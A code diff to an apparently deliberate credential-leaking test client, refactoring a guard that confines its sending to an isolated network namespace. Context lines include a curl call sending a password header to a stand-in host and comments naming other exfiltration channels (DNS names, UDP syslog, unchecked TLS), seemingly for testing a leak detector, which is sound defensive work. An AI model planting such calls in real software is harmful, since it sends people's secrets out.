@@ -74,6 +74,14 @@ def login():
     return status == 207
 
 
+def only_in_a_network_of_its_own():
+    """Modes that address names or addresses beyond loopback run only inside the suite's network
+    namespace (nothing but loopback there): anywhere else they send nothing and exit 3."""
+    if open("/proc/self/net/dev").read().count(":") != 1:
+        print("fake-client: not in a network of its own; nothing sent", file=sys.stderr)
+        sys.exit(3)
+
+
 def careless(method, path, headers=None, body=b""):
     try:
         request(method, path, headers, body, verify=False)
@@ -185,9 +193,7 @@ def leak():
     elif MODE == "http2-header":
         # HTTP/2 in clear by prior knowledge (curl, nghttp2's HPACK with Huffman coding) to a name
         # of its own, the password in a header: only inside the suite's network namespace.
-        if open("/proc/self/net/dev").read().count(":") != 1:
-            print("fake-client: not in a network of its own; nothing sent", file=sys.stderr)
-            sys.exit(3)
+        only_in_a_network_of_its_own()
         import subprocess
         subprocess.run(["curl", "--silent", "--http2-prior-knowledge", "--max-time", "3", "--header", f"X-Api-Key: {PASSWORD}",
                         "--output", "/dev/null", "http://metrics.fake-client.example/v1/ping"], check=False)
@@ -197,9 +203,7 @@ def leak():
         # dns-secret looks up a name made of it; h2c-split speaks HTTP/2 in clear as Go does (the
         # preface and SETTINGS, then, once the server's SETTINGS came, HEADERS with the password
         # as a literal header value).
-        if open("/proc/self/net/dev").read().count(":") != 1:
-            print("fake-client: not in a network of its own; nothing sent", file=sys.stderr)
-            sys.exit(3)
+        only_in_a_network_of_its_own()
         body = json.dumps({"user": USER, "password": PASSWORD}).encode()
         try:
             if MODE == "ipv6-address":
@@ -226,9 +230,7 @@ def leak():
         # server answers every name): own-name looks up a name of its own and posts the password
         # there over TLS, certificate unchecked; other-port sends it in clear to the scenario's
         # host on a port of its own; udp-datagram sends it in a UDP datagram (a syslog line).
-        if open("/proc/self/net/dev").read().count(":") != 1:
-            print("fake-client: not in a network of its own; nothing sent", file=sys.stderr)
-            sys.exit(3)
+        only_in_a_network_of_its_own()
         body = json.dumps({"user": USER, "password": PASSWORD}).encode()
         try:
             if MODE == "own-name":
